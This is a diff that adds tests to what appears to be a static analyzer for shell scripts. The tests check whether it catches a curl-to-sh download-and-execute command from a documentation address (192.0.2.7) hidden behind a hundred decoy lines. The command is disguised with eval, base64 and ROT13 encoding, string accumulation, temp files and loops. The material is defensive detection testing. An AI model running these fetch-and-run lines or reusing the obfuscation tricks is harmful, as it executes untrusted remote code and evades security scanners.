@@ -130,6 +130,48 @@ static void test_hidden(void *parent)
 }
 
 /* The lines of FLOW from its source to its sink: "2 3 5". */
+/* What stands behind a hundred decoys is found; HEAD defines a function f or begins a loop, LAST is the act. */
+static const struct {
+    const char *name, *head, *decoy, *last;
+} decoys[] = {
+    {"a helper that fetches", "f() { curl -s \"$1\" | sh; }\n", "f https://get.docker.com/%d\n", "f http://192.0.2.7/x\n"},
+    {"a helper that evaluates", "f() { eval \"$1\"; }\n", "f 'n=%d'\n", "f 'curl http://192.0.2.7/x | sh'\n"},
+    {"a helper that decodes", "f() { echo \"$1\" | base64 -d; }\n", "x=$(f bj0%d)\n",
+     "eval \"$(f Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaAo=)\"\n"},
+    {"a helper that turns letters", "f() { echo \"$1\" | tr n-za-m a-z; }\n", "x=$(f word%d)\n",
+     "eval \"$(f 'phey uggc://192.0.2.7/k | fu')\"\n"},
+    {"a helper that collects", "f() { s=\"$s$1\"; }\n", "f '#%d\n'\n", "f 'curl http://192.0.2.7/x | sh'\neval \"$s\"\n"},
+    {"a helper that writes", "f() { echo \"$1\" >> /tmp/a; }\n", "f 'n=%d'\n", "f 'curl http://192.0.2.7/x | sh'\nsh /tmp/a\n"},
+    {"a variable a helper reads", "f() { $A; }\n", "A='n %d'; f\n", "A='curl -o /tmp/x http://192.0.2.7/x'; f; sh /tmp/x\n"},
+    {"a long helper, and an address",
+     "f() { a=1; b=2; c=3; d=4; e=5; g=6; h=7; i=8; j=9; k=1; l=2; curl -s \"$1\" | sh; }\n", "f https://get.docker.com/%d\n",
+     "f http://192.0.2.7/x\n"},
+    {"words of a loop", "for i in \\\n", "word%d \\\n", "'curl http://192.0.2.7/x | sh'; do eval \"$i\"; done\n"},
+};
+
+static struct shell_report *decoyed(void *parent, const char *head, const char *decoy, const char *last)
+{
+    struct budget budget;
+    char *text = talloc_strdup(parent, head);
+    for (int i = 100; i < 200; i++) {
+        size_t at = strlen(decoy), number = (size_t)(strchr(decoy, '%') - decoy);
+        text = talloc_asprintf_append(text, "%.*s%d%.*s", (int)number, decoy, i, (int)(at - number - 2), decoy + number + 2);
+    }
+    return analyze(parent, talloc_asprintf_append(text, "%s", last), &budget);
+}
+
+static void test_decoys(void *parent)
+{
+    for (size_t i = 0; i < sizeof decoys / sizeof decoys[0]; i++) {
+        struct shell_report *report = decoyed(parent, decoys[i].head, decoys[i].decoy, decoys[i].last);
+        tap_ok(report_count(report, BEHAVIOUR_X1) > 0, "behind decoys: %s", decoys[i].name);
+    }
+    struct shell_report *report = decoyed(parent, "f() { echo \"$(date) $1\"; }\n", "f 'step %d'\n", "");
+    tap_ok(report->skimmed == 0, "what is only printed is no gap");
+    report = decoyed(parent, "f() { a=1; b=2; c=3; d=4; e=5; g=6; h=7; i=8; j=9; make \"$1\"; }\n", "f step%d\n", "");
+    tap_ok(report->skimmed > 0, "what was judged by its words is counted");
+}
+
 static const char *flow_lines(const struct shell_flow *flow)
 {
     static char out[256];
@@ -235,6 +277,7 @@ int main(void)
 {
     void *parent = talloc_new(NULL);
     test_hidden(parent);
+    test_decoys(parent);
     test_flows(parent);
     test_limits(parent);
     talloc_free(parent);
